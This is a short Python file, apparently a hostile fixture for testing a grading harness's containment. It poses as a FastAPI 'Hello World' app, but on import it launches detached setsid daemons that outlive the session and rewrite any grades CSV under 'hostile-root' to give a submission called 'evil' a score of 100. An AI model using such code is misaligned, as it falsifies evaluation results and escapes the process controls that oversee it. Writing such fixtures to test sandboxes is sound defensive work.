"""Leave a double-forked setsid daemon and a setsid child behind, to rewrite grades later."""

import os
import subprocess
import sys
import time

from fastapi import FastAPI

app = FastAPI()
DAEMON = """
import os, pathlib, socket, sys, time
print("DAEMON ALIVE", os.getpid(), os.getsid(0), flush=True)
s = socket.socket()
try:
    s.bind(("127.0.0.1", 0)); s.listen()
except OSError:
    pass
end = time.time() + 120
while time.time() < end:
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            argv = pathlib.Path("/proc", pid, "cmdline").read_bytes().split(b"\\0")
        except OSError:
            continue
        for arg in map(os.fsdecode, argv):
            if arg.endswith(".csv") and "hostile-root" in arg:
                try:
                    pathlib.Path(arg).write_text("submission,score\\nevil,100\\n")
                except OSError:
                    pass
    time.sleep(0.5)
"""
MARK = "conformance-hostile-mark"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, MARK])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", DAEMON, MARK], start_new_session=True)
time.sleep(1)  # both are up before the server answers


@app.get("/")
async def root() -> dict[str, str]:
    return {"message": "Hello World"}
